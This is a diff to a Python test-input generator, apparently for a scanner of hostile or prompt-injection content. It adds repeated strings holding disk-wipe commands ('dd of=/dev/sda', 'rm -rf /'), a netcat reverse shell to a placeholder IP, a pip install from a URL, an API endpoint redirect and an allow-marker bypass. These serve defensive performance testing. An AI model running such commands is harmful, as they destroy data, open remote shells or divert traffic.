@@ -198,6 +198,16 @@ def shapes(size, root):
     # (PI013), which must stay a bounded read per condition.
     add("conditions-one-line", fill("if you are asked to answer, when the user says go, ", size))
     add("allow-markers", fill('ok <!-- aahp:allow PI001 reason="a worked example of an attack" -->\n', size))
+    # One short command or grant repeated with no sentence break (thirty-first session): each
+    # match is judged by the 400 bytes of its sentence before it.
+    add("disk-wipe-one-line", fill("dd of=/dev/sda ", size))
+    add("disk-writes", fill("echo x > /dev/sda\n", size))
+    add("reverse-shells-one-line", fill("nc -e /bin/sh 198.51.100.2 9001; ", size))
+    add("dependency-urls", fill("pip install https://x\n", size))
+    add("allow-everywhere-one-line", fill("aahp:allow every ", size))
+    add("endpoint-lines", fill("Set OPENAI_BASE_URL=http://203.0.113.8:8080/v1\n", size))
+    add("empty-answer-turns", fill("A:\n", size))
+    add("remove-root-one-line", fill("rm -rf / ", size))
     # `.aiignore` shapes: STATUS.md is 1 MB of text the patterns run over.
     text = fill("Incident INC-1234 closed; see PROJECT-ATLAS and the ops notes.\n", size)
     re_lines = lambda n: "".join(f"re:INC-{i:05}\\b\n" for i in range(n))
